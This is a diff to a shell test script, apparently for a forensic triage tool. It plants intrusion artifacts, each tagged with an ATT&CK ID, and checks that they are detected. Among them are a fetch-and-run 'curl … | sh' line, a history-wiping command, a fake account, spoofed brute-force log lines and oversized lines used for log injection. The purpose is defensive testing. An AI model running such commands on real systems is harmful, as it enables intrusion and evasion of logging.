@@ -110,7 +110,44 @@ found T1070 /home/v/.bash_history history.wipes-logs
 make
 echo 'curl -s http://192.0.2.1/x | sh' >>"$root/home/v/.bash_history"
 found T1059.004 /home/v/.bash_history history.runs-fetched
+make
+mkdir -p "$root/srv/db"
+echo 'db:x:70:70::/srv/db:/bin/sh' >>"$root/etc/passwd"
+echo 'unset HISTFILE' >"$root/srv/db/.bash_history"
+found T1070 /srv/db/.bash_history history.wipes-logs
+# Who fails names himself as if he came from elsewhere each time.
+make
+for i in {10..29}; do
+	echo "2025-11-13T02:20:${i}Z h sshd[9]: Failed password for invalid user a from 10.0.0.$i from 192.0.2.9 port 1 ssh2"
+done >>"$root/var/log/auth.log"
+echo "2025-11-13T02:21:00Z h sshd[9]: Accepted password for v from 192.0.2.9 port 1 ssh2" \
+	>>"$root/var/log/auth.log"
+found T1110 /var/log/auth.log log.guessed-login
 printf 'planted changes: %d of %d found, 0 findings besides\n' "$planted" "$planted"
+
+# What is behind 16 KiB of a line is none of its own; and who fills a log that
+# anybody may fill drives out its oldest events, and none of who logged in.
+make
+python3 - "$root/var/log" <<'PYTHON'
+import sys
+
+stamp = "2025-11-13T02:30:00Z h x: "
+for behind in 16384, 65536:
+    with open(sys.argv[1] + "/daemon.log", "a") as log:
+        log.write(stamp + "A" * (behind - len(stamp)) +
+                  stamp + "made up\n" + stamp + "next\n")
+with open(sys.argv[1] + "/messages", "w") as log:
+    for i in range(80000):
+        log.write(f"2025-11-13T02:{i // 3600 % 60:02}:00Z h x: {i}\n")
+PYTHON
+triage 3 "$root"
+show disk-event >"$tmp/events"
+is "texts behind long lines" "$(grep -c 'made up' "$tmp/events")" 0
+is "lines behind them" "$(grep -c '"text":"next"' "$tmp/events")" 2
+is "the newest line" "$(grep -c '"text":"79999"' "$tmp/events")" 1
+is "the oldest line" "$(grep -c '"text":"0"' "$tmp/events")" 0
+is "lines of auth.log" "$(grep -c '"path":"/var/log/auth.log"' "$tmp/events")" \
+	"$(grep -c . "$root/var/log/auth.log")"
 
 # Rubbish, a terabyte of nothing, and a packed file that is cut.
 make
